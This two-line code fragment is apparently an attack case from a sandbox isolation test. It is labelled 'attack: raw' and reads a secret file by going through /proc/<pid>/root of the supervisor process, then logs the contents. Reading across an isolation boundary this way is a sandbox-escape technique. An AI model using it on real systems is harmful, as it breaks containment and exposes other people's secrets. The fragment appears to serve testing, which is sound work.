# attack: raw | looks at the machine through the supervisor's root
log(open(f"/proc/{params['supervisor']}/root" + params["secret"]).read())
